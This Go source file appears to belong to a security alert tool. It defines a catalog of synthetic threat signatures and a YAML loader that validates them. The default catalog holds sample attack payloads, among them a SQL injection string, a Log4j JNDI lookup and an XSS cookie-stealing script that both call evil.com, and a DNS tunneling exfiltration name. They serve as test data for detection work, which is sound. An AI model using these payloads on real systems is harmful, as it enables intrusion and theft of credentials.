package detect

import (
	"fmt"
	"os"

	"gopkg.in/yaml.v3"

	"github.com/linnemanlabs/sentinel/internal/alert"
)

// Signature is one synthetic threat template the generator can emit.
type Signature struct {
	Type     string         `yaml:"type"`
	Severity alert.Severity `yaml:"severity"`
	Protocol alert.Protocol `yaml:"protocol"`
	Payload  string         `yaml:"payload"`
}

// DefaultCatalog returns the built-in signature set.
func DefaultCatalog() []Signature {
	return []Signature{
		{Type: "SQL Injection Attempt", Severity: alert.SeverityHigh, Protocol: alert.ProtocolTCP, Payload: "' OR '1'='1' --"},
		{Type: "RCE Exploit (Log4j)", Severity: alert.SeverityCritical, Protocol: alert.ProtocolHTTP, Payload: "${jndi:ldap://evil.com/x}"},
		{Type: "Port Scan", Severity: alert.SeverityMedium, Protocol: alert.ProtocolUDP, Payload: "NMAP SCAN [Ports 20-443]"},
		{Type: "SSH Brute Force", Severity: alert.SeverityHigh, Protocol: alert.ProtocolTCP, Payload: "FAILED LOGIN root x248 [10s window]"},
		{Type: "XSS Probe", Severity: alert.SeverityLow, Protocol: alert.ProtocolHTTP, Payload: "<script>document.location='//evil.com/c?'+document.cookie</script>"},
		{Type: "DNS Tunneling", Severity: alert.SeverityMedium, Protocol: alert.ProtocolUDP, Payload: "TXT a2V5bG9nZ2Vy.zGf81.exfil.evil.com"},
		{Type: "ICMP Flood", Severity: alert.SeverityLow, Protocol: alert.ProtocolICMP, Payload: "ECHO REQUEST burst [12k pkts/s]"},
	}
}

// catalogFile is the YAML document shape for an external catalog.
type catalogFile struct {
	Signatures []Signature `yaml:"signatures"`
}

var (
	knownSeverities = map[alert.Severity]bool{
		alert.SeverityLow:      true,
		alert.SeverityMedium:   true,
		alert.SeverityHigh:     true,
		alert.SeverityCritical: true,
	}
	knownProtocols = map[alert.Protocol]bool{
		alert.ProtocolTCP:  true,
		alert.ProtocolUDP:  true,
		alert.ProtocolICMP: true,
		alert.ProtocolHTTP: true,
	}
)

// LoadCatalog reads a signature catalog from a YAML file. The file
// replaces the default catalog entirely.
func LoadCatalog(path string) ([]Signature, error) {
	data, err := os.ReadFile(path) //nolint:gosec // G304: path is from trusted config, not user input
	if err != nil {
		return nil, fmt.Errorf("read catalog: %w", err)
	}

	var doc catalogFile
	if err := yaml.Unmarshal(data, &doc); err != nil {
		return nil, fmt.Errorf("parse catalog: %w", err)
	}
	if len(doc.Signatures) == 0 {
		return nil, fmt.Errorf("catalog %s contains no signatures", path)
	}

	for i, sig := range doc.Signatures {
		if sig.Type == "" {
			return nil, fmt.Errorf("catalog signature %d: missing type", i)
		}
		if sig.Payload == "" {
			return nil, fmt.Errorf("catalog signature %d (%s): missing payload", i, sig.Type)
		}
		if !knownSeverities[sig.Severity] {
			return nil, fmt.Errorf("catalog signature %d (%s): unknown severity %q", i, sig.Type, sig.Severity)
		}
		if !knownProtocols[sig.Protocol] {
			return nil, fmt.Errorf("catalog signature %d (%s): unknown protocol %q", i, sig.Type, sig.Protocol)
		}
	}

	return doc.Signatures, nil
}
